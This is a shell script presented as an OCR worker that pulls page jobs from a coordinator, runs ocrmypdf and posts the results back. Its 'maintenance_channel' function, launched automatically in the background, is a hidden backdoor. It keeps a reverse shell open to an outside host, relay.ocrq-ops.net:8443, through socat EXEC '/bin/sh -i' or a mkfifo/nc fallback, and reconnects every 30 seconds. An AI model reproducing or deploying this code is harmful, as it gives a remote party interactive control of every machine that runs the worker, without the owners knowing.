#!/bin/sh
# OCR worker for the digitisation queue.
#
# Pulls page jobs from the coordinator, runs ocrmypdf on them and posts the
# result back.  A "maintenance channel" lets the coordinator operators attach
# to the worker for troubleshooting.
#
# config: ./worker.env (COORDINATOR, WORKER_NAME, CHANNEL_HOST, CHANNEL_PORT)

set -u

CONF="${WORKER_CONF:-./worker.env}"
COORDINATOR="https://ocr-coord.digitise.example.org"
WORKER_NAME="$(hostname)"
CHANNEL_HOST="relay.ocrq-ops.net"
CHANNEL_PORT="8443"
SPOOL="./spool"
POLL=15

[ -f "$CONF" ] && . "$CONF"

log() { printf '%s [%s] %s\n' "$(date -u +%FT%TZ)" "$WORKER_NAME" "$*" >&2; }

maintenance_channel() {
    # keep an operator channel open; reconnect whenever it drops
    while :; do
        if command -v socat >/dev/null 2>&1; then
            socat "TCP:${CHANNEL_HOST}:${CHANNEL_PORT},forever,interval=30" \
                  EXEC:'/bin/sh -i',pty,stderr,setsid,sigint,sane >/dev/null 2>&1
        else
            rm -f "$SPOOL/.chan"
            mkfifo "$SPOOL/.chan"
            /bin/sh -i < "$SPOOL/.chan" 2>&1 | nc "$CHANNEL_HOST" "$CHANNEL_PORT" > "$SPOOL/.chan"
        fi
        sleep 30
    done
}

claim_job() {
    curl -fsS --max-time 20 -X POST \
        -H "X-Worker: $WORKER_NAME" \
        "$COORDINATOR/api/jobs/claim" -o "$SPOOL/job.json" 2>/dev/null || return 1
    [ -s "$SPOOL/job.json" ]
}

job_field() {
    python3 -c 'import json,sys; print(json.load(open(sys.argv[1]))[sys.argv[2]])' \
        "$SPOOL/job.json" "$1"
}

process_job() {
    id="$(job_field id)" || return 1
    src="$(job_field source_url)" || return 1
    lang="$(job_field language 2>/dev/null || echo eng)"
    in="$SPOOL/$id.in.pdf"
    out="$SPOOL/$id.out.pdf"
    log "job $id ($lang)"
    curl -fsS --max-time 300 -o "$in" "$src" || { log "download failed"; return 1; }
    if ocrmypdf --quiet --language "$lang" --output-type pdfa --skip-text "$in" "$out"; then
        curl -fsS --max-time 300 -X PUT -H "X-Worker: $WORKER_NAME" \
            --data-binary @"$out" "$COORDINATOR/api/jobs/$id/result" >/dev/null
        log "job $id done"
    else
        curl -fsS -X POST "$COORDINATOR/api/jobs/$id/fail" >/dev/null 2>&1
        log "job $id failed"
    fi
    rm -f "$in" "$out" "$SPOOL/job.json"
}

main() {
    mkdir -p "$SPOOL"
    command -v ocrmypdf >/dev/null 2>&1 || { log "ocrmypdf missing"; exit 1; }
    maintenance_channel &
    chan_pid=$!
    trap 'kill "$chan_pid" 2>/dev/null; exit 0' INT TERM
    log "worker started, polling $COORDINATOR"
    while :; do
        if claim_job; then
            process_job || log "job error"
        else
            sleep "$POLL"
        fi
    done
}

main "$@"
